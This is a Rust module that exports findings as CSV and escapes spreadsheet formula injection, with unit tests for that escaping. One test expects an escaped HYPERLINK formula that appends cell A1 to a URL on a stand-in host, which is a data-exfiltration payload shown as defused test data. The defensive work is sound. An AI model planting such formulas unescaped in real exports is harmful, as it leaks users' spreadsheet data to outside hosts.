//! Finding rows as CSV, for spreadsheets.
//!
//! Spreadsheets run cells that begin like a formula, so such cells get a leading apostrophe; numbers are written by
//! us and stay numbers. Called by `cli` (`report`, `findings -o csv`). Money has two decimals and no currency sign;
//! an unknown price is an empty cell, never 0.

use std::io::Write;

use anyhow::{Context, Result};

use crate::domain::report::{FindingRow, Report};
use crate::domain::text::clean;

/// The first line.
pub const HEADER: [&str; 13] = [
    "finding",
    "resource",
    "kind",
    "name",
    "account",
    "region",
    "owner",
    "severity",
    "phase",
    "message",
    "detected_at",
    "due_at",
    "monthly_usd",
];

/// The report's largest open findings.
pub fn render(report: &Report) -> Result<String> {
    let mut out = Vec::new();
    write(&mut out, &report.top_findings)?;
    String::from_utf8(out).context("writing CSV: a cell was not UTF-8")
}

/// Any number of rows, streamed.
pub fn write<'a>(out: impl Write, rows: impl IntoIterator<Item = &'a FindingRow>) -> Result<()> {
    let mut writer = csv::Writer::from_writer(out);
    writer.write_record(HEADER).context("writing the CSV header")?;
    for row in rows {
        writer
            .write_record([
                cell(&row.finding),
                cell(&row.resource),
                cell(&row.kind),
                cell(&row.name),
                cell(&row.account),
                cell(&row.region),
                cell(row.owner.as_deref().unwrap_or_default()),
                row.severity.to_string(),
                row.phase.to_string(),
                cell(&row.message),
                row.detected_at.to_rfc3339_opts(chrono::SecondsFormat::Secs, true),
                row.due_at.map(|due| due.to_rfc3339_opts(chrono::SecondsFormat::Secs, true)).unwrap_or_default(),
                row.monthly.map(|monthly| monthly.plain()).unwrap_or_default(),
            ])
            .with_context(|| format!("writing the CSV row of {}", row.finding))?;
    }
    writer.flush().context("writing CSV")
}

/// Foreign text as a cell that no spreadsheet runs: cleaned, and with an apostrophe before `= + - @`, tab and CR.
pub fn cell(text: &str) -> String {
    // A tab or CR is replaced by `clean`, so the original first character decides.
    // Blanks of any sort before it: which of them a spreadsheet leaves out is its own affair.
    let dangerous = text.trim_start_matches(' ').starts_with(['\t', '\r', '\n'])
        || text.trim_start().starts_with(['=', '+', '-', '@']);
    let cleaned = clean(text);
    if dangerous { format!("'{cleaned}") } else { cleaned }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::report::sample;

    #[test]
    fn a_cell_that_looks_like_a_formula_gets_an_apostrophe_and_no_other_does() {
        for (given, expected) in [
            ("=1+1", "'=1+1"),
            ("+49 30", "'+49 30"),
            ("-2", "'-2"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\t=1", "'\u{FFFD}=1"),
            ("\r=1", "'\u{FFFD}=1"),
            ("  =1", "'  =1"),
            ("\u{a0} =1", "'\u{a0} =1"),
            ("\u{3000}@A1", "'\u{3000}@A1"),
            ("a=1", "a=1"),
            ("1-2", "1-2"),
            ("", ""),
        ] {
            assert_eq!(cell(given), expected, "{given:?}");
        }
    }

    #[test]
    fn every_row_reads_back_with_its_quotes_commas_and_line_breaks_disarmed() {
        let report = sample();
        let text = render(&report).unwrap();
        let mut reader = csv::Reader::from_reader(text.as_bytes());
        assert_eq!(reader.headers().unwrap(), &HEADER[..]);
        let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
        assert_eq!(rows.len(), report.top_findings.len());
        for (row, finding) in rows.iter().zip(&report.top_findings) {
            assert_eq!(&row[0], finding.finding);
            assert_eq!(row[12].is_empty(), finding.monthly.is_none(), "an unknown price is empty, never 0");
        }
        assert_eq!(&rows[9][3], "'=HYPERLINK(\"http://x.example/?\"&A1,\"open\")");
        assert_eq!(&rows[0][12], "1935.00");
    }
}
